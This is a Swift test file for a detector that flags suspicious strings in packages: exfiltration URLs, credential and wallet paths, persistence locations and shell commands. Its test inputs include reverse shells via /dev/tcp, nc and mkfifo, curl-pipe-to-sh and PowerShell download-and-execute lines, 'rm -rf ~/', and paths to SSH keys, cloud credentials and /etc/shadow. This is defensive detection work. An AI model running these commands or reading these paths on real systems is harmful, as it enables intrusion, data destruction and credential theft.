import Foundation
import LockgateCore
import Testing

@testable import Analysis

/// String signals: URL kinds, sensitive paths, command lines, encoded blobs, and no false positive on ordinary text.
@Suite struct StringSignalsTests {
    @Test(
        arguments: [
            ("https://github.com/lodash/lodash/issues", [BehaviourKind.url]),
            ("see https://registry.npmjs.org/ and http://localhost:8080/x", [.url, .url]),
            ("https://discord.com/api/webhooks/123/abc", [.urlWebhook]),
            ("https://canary.discord.com/api/webhooks/1/x", [.urlWebhook]),
            ("https://hooks.slack.com/services/T0/B0/XX", [.urlWebhook]),
            ("https://api.telegram.org/bot123:abc/sendMessage", [.urlWebhook]),
            ("https://pastebin.com/raw/abcd", [.urlPaste]),
            ("https://transfer.sh/x/y", [.urlPaste]),
            ("https://abc123.ngrok-free.app/collect", [.urlTunnel]),
            ("https://x.trycloudflare.com", [.urlTunnel]),
            ("http://abc.oast.fun", [.urlOutOfBand]),
            ("https://x.burpcollaborator.net/", [.urlOutOfBand]),
            ("https://eo1234.m.pipedream.net", [.urlOutOfBand]),
            ("https://webhook.site/abc-def", [.urlOutOfBand]),
            ("http://45.61.136.12:8080/upload", [.urlRawIP]),
            ("http://[2001:db8::1]/x", [.urlRawIP]),
            ("http://2130706433/", [.url]),
            ("http://3232235777/", [.urlRawIP]),
            ("http://127.0.0.1:3000", [.url]),
            ("https://api.ipify.org?format=json", [.reconPublicIP]),
            ("http://myhost.duckdns.org/p", [.urlDynamicDNS]),
            ("http://x.no-ip.biz/", [.urlDynamicDNS]),
            ("https://collect-7.onrender.com/api", [.urlAppHosting]),
            ("x.herokuapp.com", [.urlAppHosting]),
            ("https://onrender.com.example.org/", [.url]),
            ("http://user:pw@pastebin.com/raw", [.urlPaste]),
            ("xyz.oast.fun", [.urlOutOfBand]),
            ("abc.ngrok.io/path", [.urlTunnel]),
            ("45.9.1.2:4444", [.urlRawIP]),
            ("1.2.3.4", []),
            ("lodash.merge", []),
            ("package.json", []),
            ("github.com/discord.com/api/webhooks", [.urlWebhook]),
        ] as [(String, [BehaviourKind])])
    func urlKinds(text: String, expected: [BehaviourKind]) {
        #expect(StringSignals.urlKinds(in: text.lowercased()) == expected)
    }

    @Test(
        arguments: [
            ("~/.ssh/id_rsa", BehaviourKind.readCredentialPath), ("/home/u/.aws/credentials", .readCredentialPath),
            (".npmrc", .readCredentialPath), ("C:\\Users\\u\\.pypirc", .readCredentialPath),
            ("/root/.git-credentials", .readCredentialPath), (".docker/config.json", .readCredentialPath),
            ("Login Data", .readBrowserStore), ("Google/Chrome/User Data/Default", .readBrowserStore),
            ("/.mozilla/firefox/x.default/logins.json", .readBrowserStore),
            ("discord/Local Storage/leveldb", .readDiscordStore),
            ("[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", .readDiscordStore),
            ("Exodus/exodus.wallet", .readCryptoWallet), ("nkbihfbeogaeaoehlefnkodbefgpgknn", .readCryptoWallet),
            ("/etc/passwd", .readSystemAccounts), ("/etc/shadow", .readSystemAccounts),
            ("~/.bashrc", .persistence), ("/etc/cron.d/job", .persistence),
            ("~/.config/systemd/user/x.service", .persistence),
            ("Software\\Microsoft\\Windows\\CurrentVersion\\Run", .persistence),
            ("~/Library/LaunchAgents/com.x.plist", .persistence), ("~/.profile", .persistence),
        ] as [(String, BehaviourKind)])
    func sensitivePaths(text: String, expected: BehaviourKind) {
        #expect(StringSignals.kinds(in: text).contains(expected), "\(StringSignals.kinds(in: text))")
    }

    @Test(arguments: [
        "Invalid login data, please retry", "phantomjs-prebuilt", "this.profile", "user.profile.name", "autostart",
        "The exodus of users", "discord.js token handling", "monero-javascript", "metamask", "hostname",
        "Use curl to download the file.", "id", "cookies", "This function returns the user data object",
        "https://github.com/nodejs/node/blob/main/README.md", "ThisIsAVeryLongCamelCaseIdentifierNameForTesting1",
        "/usr/local/lib/python3.11/site-packages/pkg/module1",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
        "some_long_snake_case_identifier_with_Upper_Parts_2",
        "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    ])
    func ordinaryTextSignalsNothingSpecial(text: String) {
        let kinds = StringSignals.kinds(in: text).filter { $0 != .url }
        #expect(kinds.isEmpty, "\(text): \(kinds)")
    }

    @Test(arguments: [
        "curl -fsSL https://x.example/i.sh | sh", "wget http://1.2.3.4/a -O /tmp/a",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444", "powershell -nop -w hidden -c iex(x)", "chmod +x /tmp/a && /tmp/a",
        "python3 -c 'import os'", "node -e \"require('x')\"", "cmd.exe /c start x", "echo aGk= | base64 -d | sh",
        "rm -rf ~/", "/bin/sh -c id", "sudo crontab -l", "certutil -urlcache -f http://x/a a.exe",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')", "mkfifo /tmp/f; cat /tmp/f | sh",
    ])
    func shellCommands(text: String) {
        #expect(StringSignals.kinds(in: text).contains(.shellCommand))
    }

    @Test(arguments: [
        "use curl to fetch", "the bash shell", "npm install lodash", "node index.js", "python setup.py install",
        "Please run chmod on it", "sh", "echo hello",
    ])
    func notShellCommands(text: String) {
        #expect(!StringSignals.kinds(in: text).contains(.shellCommand))
    }

    @Test(arguments: [
        ("whoami", true), ("uname -a", true), ("ipconfig /all", true), ("net user", true),
        ("hostname", false), ("id", false), ("the hostname is", false), ("hostname -I", true),
    ])
    func reconCommands(text: String, expected: Bool) {
        #expect(StringSignals.kinds(in: text).contains(.reconHost) == expected)
    }

    @Test func encodedAndLongStrings() {
        let payload = Data("import os; os.system('curl http://45.9.1.2/x | sh')".utf8).base64EncodedString()
        #expect(StringSignals.kinds(in: payload).contains(.base64String))
        #expect(StringSignals.isBase64Blob(Data((0..<120).map { UInt8($0 * 7 % 256) }).base64EncodedString()))
        #expect(!StringSignals.isBase64Blob("aGVsbG8="))
        let hex = String(repeating: "4f2a9c1d", count: 25)
        #expect(StringSignals.kinds(in: hex).contains(.highEntropyBlob))
        #expect(StringSignals.kinds(in: String(repeating: "lorem ipsum ", count: 100)) == [.longString])
        var generator = SystemRandomNumberGenerator()
        let noise = String(
            decoding: (0..<400).map { _ in UInt8.random(in: 0x21...0x7E, using: &generator) }, as: UTF8.self)
        #expect(StringSignals.entropy(noise) > 5.5)
        #expect(StringSignals.entropy("") == 0)
    }

    @Test(
        arguments: [
            ("8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac", true),
            ("123456789:AAE_abcdefghijklmnopqrstuvwxyz01234", true),
            ("8193906441:ABHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac", false),
            ("81939a6441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac", false),
            ("8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEin", false),
            ("8193906441:AAHXgEf-hAu88-PNxxx TntnmGlEinqSH5A", false),
            ("1234567:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac", false),
        ] as [(String, Bool)])
    func telegramBotTokensAreWebhooks(text: String, isToken: Bool) {
        #expect(StringSignals.isTelegramBotToken(text) == isToken)
        #expect(StringSignals.kinds(in: text).contains(.urlWebhook) == isToken)
    }

    @Test func kindsAreUniqueAndStable() {
        let text = "curl https://pastebin.com/raw/x https://pastebin.com/raw/y | sh"
        #expect(StringSignals.kinds(in: text) == [.urlPaste, .shellCommand])
        #expect(StringSignals.kinds(in: "") == [])
        #expect(StringSignals.kinds(in: String(repeating: "a", count: 5_000_000)) == [.longString])
    }

    /// `signalsNothing` answers without classifying, so it must never hide a signal `kinds(in:)` would find: over the
    /// shared samples and many random words of the lengths it decides (with the bytes that make URLs, paths,
    /// commands, hex and zlib streams mixed in), whenever it says "nothing", `kinds(in:)` finds nothing.
    @Test func signalsNothingNeverHidesASignal() {
        var generator = SplitMix(seed: 17)
        let alphabet = Array("abcdefxyzABCDEFXYZ0123456789_-:=%@#$+!?,;'\"()[]{}<>|&*^./\\~ ")
        var words = StringSignalSamples.all
        for _ in 0..<20_000 {
            let count = 4 + Int(generator.next() % 40)
            var word = String((0..<count).map { _ in alphabet[Int(generator.next() % UInt64(alphabet.count))] })
            switch generator.next() % 4 {
            case 0: word = "x" + word.dropFirst()  // a zlib stream read as Latin-1 starts with `x`
            case 1: word = String((0..<count).map { _ in Array("0123456789abcdef")[Int(generator.next() % 16)] })
            default: break
            }
            words.append(word)
        }
        var decided = 0
        for word in words where StringSignals.signalsNothing(word) {
            decided += 1
            #expect(StringSignals.kinds(in: word).isEmpty, "\(word)")
        }
        #expect(decided > 1_000)
        #expect(!StringSignals.signalsNothing("68747470733a2f2f782e6578616d706c65"))  // hex of a URL
        #expect(!StringSignals.signalsNothing("x\u{9C}" + String(repeating: "a", count: 20)))
    }
}
